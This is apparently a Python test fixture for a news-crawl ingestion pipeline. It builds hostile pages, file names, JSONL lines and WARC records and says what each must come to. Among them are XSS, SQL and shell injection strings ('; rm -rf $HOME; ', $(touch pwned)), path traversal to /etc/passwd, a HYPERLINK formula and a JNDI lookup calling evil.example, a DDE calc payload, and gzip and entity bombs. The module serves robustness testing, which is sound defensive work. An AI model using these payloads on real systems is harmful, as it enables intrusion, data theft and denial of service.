"""Pages, names and records made to hurt: law 10 says that none of them does more than be an article or a reject.

Each case is one input with what it must come to: `article`, or the reason of a reject. Those marked as such stand in for
whole families (deep nesting, bombs, numbers without end), so a new idea is one more row here.
"""

import gzip
import json
from dataclasses import dataclass
from html import escape

from tests.faults.zones import Drop

_PROSE = (
    (
        "The harbour board of Aldersey met on Tuesday and put off the sale of the old crane, according to the Harbour Gazette. Nobody had "
        'made <a href="javascript:alert(1)" rel="nofollow">an offer that pays for it</a>, the treasurer said.'
    ),
    (
        "Fishermen from Holmsay have asked for a second railway track to the coast, because lorries need three hours for forty miles in "
        'summer. <a href="http://[::1/%zz">The council</a> will look at the figures before the end of the year.'
    ),
)
EVIL_TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "quotes": "Robert'); drop table articles; -- \" ' ` \\",
    "lines": "First line\r\nSet-Cookie: stolen=1\r\n\r\n<html>second\x0bline\u2028third",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "path": "../../../../etc/passwd",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned | tee pwned & %PATH%",
    "terminal": "\x1b[2J\x1b]0;owned\x07 \u202egnitirw",
    "template": "{{7*7}} ${jndi:ldap://evil.example} %s %n {0.__class__}",
    "markdown": "[click](javascript:alert(1)) | a | b |\n|---|---| ![x](http://evil.example)",
}


@dataclass(frozen=True, slots=True)
class Case:
    """One input and what it must come to."""

    outcome: str
    payload: bytes
    url: str = "https://harbour-gazette.example/story"


def page(headline: str = "Sale of the old crane put off again", head: str = "", body: str = "") -> bytes:
    """Make an article whose parts may be anything; they are put in as they are."""
    prose = "".join(f"<p>{paragraph}</p>" for paragraph in _PROSE)
    text = f"<!doctype html><html><head><title>{headline}</title>{head}</head><body><article><h1>{headline}</h1>{prose}{body}</article>"
    return text.encode("utf-8", "surrogatepass")


def _json_ld(text: str) -> str:
    return f'<script type="application/ld+json">{text}</script>'


FILES: dict[str, Case] = {
    **{f"headline-{name}": Case("article", page(escape(text))) for name, text in EVIL_TEXTS.items()},
    **{f"raw-{name}": Case("article", page(text)) for name, text in EVIL_TEXTS.items()},
    **{f"url-{name}": Case("article", page(), text) for name, text in EVIL_TEXTS.items()},
    "url-script-scheme": Case("article", page(), "javascript:alert(1)"),
    "url-broken-host": Case("article", page(), "http://[::1/x"),
    "url-broken-port": Case("article", page(), "http://harbour-gazette.example:99999999/x"),
    "url-long": Case("article", page(), "https://harbour-gazette.example/" + "a/" * 50_000),
    "canonical-broken": Case("article", page(head='<link rel="canonical" href="http://[/\x00%zz"><base href="javascript:">')),
    "attribute-of-1-mb": Case("article", page(body=f'<p class="{"x" * 2**20}">A last word.</p>')),
    "attributes-by-the-thousand": Case("article", page(body=f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>A last word.</p>")),
    "100000-nested-divs": Case("article", page(body="<div>" * 100_000 + "deep down")),
    "100000-unclosed-tags": Case("article", page(body="<b><i><a href=x>" * 33_000)),
    "entities-that-grow": Case(
        "article", b'<!DOCTYPE html [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + page(body="<p>&b;" * 50)
    ),
    "numbers-without-end": Case("article", page(head=_json_ld('{"@type": "NewsArticle", "datePublished": ' + "9" * 5_000 + "}"))),
    "json-without-bottom": Case("article", page(head=_json_ld("[" * 100_000))),
    "json-of-wrong-types": Case(
        "article",
        page(
            head=_json_ld(
                '{"@graph": "no", "@type": ["NewsArticle", 7, null], "author": [[[{"name": {"name": 1e999}}]]], "headline": [], '
                '"datePublished": {"a": []}, "dateModified": -1, "keywords": {"a": 1}, "isAccessibleForFree": [], "publisher": "\\ud800"}'
            )
        ),
    ),
    "dates-beyond-calendars": Case("article", page(head='<meta property="article:published_time" content="99999-99-99T99:99:99+99:99">')),
    "codec-undefined": Case("article", page(head='<meta charset="undefined">', body="<p>Caf\udce9".encode("utf-8", "replace").decode())),
    "null-bytes": Case("article", page(body="<p>one\x00two\x00</p>")),
    "invalid-utf-8": Case("article", page().replace(b"</article>", b"<p>caf\xe9 \xff\xfe na\xefve</p></article>")),
    "only-null-bytes": Case("not_text", bytes(5_000)),
    "noise": Case("not_text", b"<html>" + bytes(range(256)) * 40),
    "nothing": Case("empty", b""),
    "a-million-characters-of-one-word": Case("article", page(body=f"<p>{'a' * 2**20}</p>")),
    "quotes-without-end": Case("article", page(body="<p>" + "\u201c\u00ab\"'" * 5_000 + "</p>")),
    "according-to-without-end": Case("article", page(body="<p>" + "According to the " * 5_000 + "</p>")),
    "packed-in-gzip": Case("not_text", gzip.compress(page(), mtime=0)),
}
"""HTML files by the stem of their name."""

NAMES = (
    "'; rm -rf $HOME; '", "new\nline", "carriage\rreturn", "$(touch pwned)", "a..%2f..%2fetc%2fpasswd", "=cmd|' /C calc'!A0", '"quoted"',
    "\\..\\windows", "-rf", "crawl_date=2026-01-01", "; drop table pages; --", "<script>alert(1)<", "\x1b[2J",
    "caf\udce9", "a" * 250, "\u202etxt",
)  # fmt: skip
"""Stems of file names; each holds an article."""

LINES: tuple[tuple[str, bytes], ...] = (
    ("article", json.dumps({"url": "https://a.example/\ud800", "html": page().decode() + "<p>lone \ud800 surrogate"}).encode()),
    ("article", json.dumps({"url": "https://a.example/", "text": "\n\n".join(["A lone \udfff headline", *_PROSE])}).encode()),
    ("bad_row", b'{"url": "https://a.example/", "html": "invalid \xff utf-8"}'),
    ("bad_row", b"[" * 100_000),
    ("bad_row", b'{"html": ' + b'{"a":' * 100_000),
    ("bad_row", b'{"n": ' + b"9" * 5_000 + b', "html": "x"}'),
    ("bad_row", b'{"html": ["not", "text"], "url": {"a": 1}}'),
    ("bad_row", b"\x00" * 100),
    (
        "article",
        json.dumps(
            {"url": ["no", "text"], "fetched_at": "9" * 40, "status": "200\r\n", "headers": {"X": "a\r\nB: c"}, "html": page().decode()}
        ).encode(),
    ),
    ("article", json.dumps({"fetched_at": -1e308, "headers": [["X"], 7, None], "html": page().decode()}).encode()),
)
"""Lines of a JSONL file, with what each comes to."""


def _warc(head: str, block: bytes, length: str | None = None) -> bytes:
    return f"WARC/1.0\r\n{head}Content-Length: {length or len(block)}\r\n\r\n".encode() + block + b"\r\n\r\n"


_RESPONSE = "WARC-Type: response\r\nContent-Type: application/http\r\nWARC-Date: 2026-03-11T06:00:00Z\r\n"
_HTTP = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"

RECORDS: tuple[tuple[str, bytes], ...] = (
    ("article", _warc(_RESPONSE + "WARC-Target-URI: https://a.example/\x00<script>\r\n", _HTTP + b"X: a\r\n\r\n" + page())),
    ("article", _warc(_RESPONSE, _HTTP + b"Set-Cookie: a\rb\x00c\r\nX: \xff\xfe\r\n\r\n" + page())),
    ("article", _warc(_RESPONSE.replace("2026-03-11T06:00:00Z", "tomorrow"), _HTTP + b"Date: never\r\n\r\n" + page())),
    ("corrupt", _warc(_RESPONSE, _HTTP + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\n" + page())),
    ("corrupt", _warc(_RESPONSE, _HTTP + b"Content-Encoding: gzip, gzip, gzip, gzip, gzip\r\n\r\n" + page())),
    ("too_large", _warc(_RESPONSE, _HTTP + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(bytes(3 * 2**20), mtime=0))),
    ("corrupt", _warc(_RESPONSE, b"no http at all")),
    ("corrupt", _warc(_RESPONSE, _HTTP + b"\r\n" + page(), length="-5")),
    ("article", _warc(_RESPONSE, _HTTP + b"\r\n" + page(headline="The last record is whole"))),
)
"""Records of a WARC file, with what each comes to. Pages above 1 MiB are refused where this zone is landed."""

BOMB = gzip.compress(bytes(200 * 2**20), mtime=0)


def hostile_drops() -> list[Drop]:
    """Pack all of it into one landing zone; capture times stand in the manifest, where there is one."""
    rows = [json.dumps({"file": f"{name}.html", "url": case.url, "fetched_at": "2026-03-10T06:00:00Z"}) for name, case in FILES.items()]
    rows += [
        json.dumps({"file": name, "url": "https://a.example/"}) for name in ("/etc/passwd", "../../outside.html", "a\0b", "\ud800.html", "")
    ]
    rows.append('{"file": "nothing.html", "charset": "undefined", "status": "' + "9" * 5_000 + '"}')
    return [
        Drop(files=(("web/manifest.jsonl", "\n".join(rows).encode()),)),
        Drop(files=tuple((f"web/{name}.html", case.payload) for name, case in FILES.items())),
        Drop(files=tuple((f"names/2026-03-11/{name}.html", page()) for name in NAMES)),
        Drop(files=(("bomb/2026-03-11/bomb.html.gz", BOMB), ("bomb/2026-03-11/twice.txt.gz", gzip.compress(BOMB, mtime=0)))),
        Drop(files=(("feeds/2026-03-11/evil.jsonl", b"\n".join(line for _, line in LINES) + b"\n"),)),
        Drop(files=(("crawl/2026-03-11/evil.warc", b"".join(record for _, record in RECORDS)),)),
    ]
